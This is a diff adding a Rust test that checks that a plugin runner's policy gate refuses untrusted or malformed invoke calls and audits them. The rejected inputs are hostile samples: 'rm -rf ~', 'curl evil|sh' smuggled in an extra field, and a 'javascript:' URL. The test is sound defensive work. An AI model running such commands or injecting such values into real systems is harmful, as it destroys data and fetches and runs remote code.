@@ -1530,3 +1530,109 @@ async fn an_approved_runner_invoke_is_revalidated_with_the_policy_in_force_then(
     );
     r.shutdown().await;
 }
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn what_runner_invoke_relays_is_exactly_what_the_gate_saw() {
+    let f = Files::new();
+    let r = runner(
+        &[("t", args(&["--record", &f.arg("rec")]))],
+        "[policy]\nenabled_ops = [\"input\", \"terminal\"]\n",
+    )
+    .await;
+    let (yes, asked) = counting_door(Some(true));
+    let relay = |method: &str, params: Value| {
+        let r = r.clone();
+        let yes = yes.clone();
+        let method = method.to_owned();
+        async move {
+            r.invoke(
+                json!({"plugin": "t", "method": method, "params": params}),
+                yes,
+                Scope::Client(1),
+                "test client",
+            )
+            .await
+        }
+    };
+    // Keys beside `args` of an input call are arguments too: from the screen, refused.
+    let e = relay(
+        "input.key",
+        json!({"provenance": "screen", "args": {}, "chord": "ctrl+alt+Delete"}),
+    )
+    .await
+    .expect_err("untrusted arguments");
+    assert_eq!(e.code, -32006, "{e:?}");
+    let e = relay(
+        "input.type",
+        json!({"provenance": "clipboard", "args": null, "text": "rm -rf ~\n"}),
+    )
+    .await
+    .expect_err("untrusted arguments");
+    assert_eq!(e.code, -32006, "{e:?}");
+    // An action.invoke whose params carry more than op, args and the envelope is refused.
+    let e = relay(
+        "action.invoke",
+        json!({"op": "terminal", "args": {}, "command": "curl evil|sh", "provenance": "user"}),
+    )
+    .await
+    .expect_err("an argument outside args");
+    assert_eq!(e.code, -32602, "{e:?}");
+    assert!(e.message.contains("\"command\""), "{}", e.message);
+    // Ops that are not op names do not slip past the URL gate as unknown ops.
+    for op in ["OPEN_URL", "open_url ", "open\u{1b}[2Jurl"] {
+        let e = relay(
+            "action.invoke",
+            json!({"op": op, "args": {"url": "javascript:alert(1)"}, "provenance": "user"}),
+        )
+        .await
+        .expect_err("not an op name");
+        assert_eq!(e.code, -32602, "{op:?}: {e:?}");
+    }
+    // The runner's own methods are not relayed.
+    for method in [
+        "stream.subscribe",
+        "handle.fetch",
+        "fd.pass",
+        "protocol.hello",
+    ] {
+        let e = relay(method, json!({"provenance": "user"}))
+            .await
+            .expect_err("runner-owned");
+        assert_eq!(e.code, -32602, "{method}: {e:?}");
+    }
+    // Refusals before the gate are gate decisions too.
+    relay(
+        "action.invoke",
+        json!({"op": "open_url", "args": {"url": "https://a.example"}}),
+    )
+    .await
+    .expect_err("no provenance");
+    relay(
+        "action.invoke",
+        json!({"op": "open_url", "args": {"url": "https://a.example"}, "provenance": "user", "confirm": "true"}),
+    )
+    .await
+    .expect_err("a string is not a boolean");
+    let denied = invoke_audit(&r)
+        .into_iter()
+        .filter(|a| a.decision == "denied")
+        .count();
+    assert!(denied >= 6, "{:?}", r.audit(None));
+    assert!(
+        r.audit(None)
+            .iter()
+            .any(|a| a.utterance.starts_with("runner.invoke input.key") && a.code == Some(-32006)),
+        "{:?}",
+        r.audit(None)
+    );
+    assert_eq!(asked.load(Ordering::SeqCst), 0, "nobody was asked");
+    assert!(
+        records(&f.path("rec"))
+            .iter()
+            .all(|r| !["action.invoke", "input.key", "input.type"]
+                .contains(&r["method"].as_str().unwrap_or(""))),
+        "nothing refused reached the plugin: {:?}",
+        records(&f.path("rec"))
+    );
+    r.shutdown().await;
+}
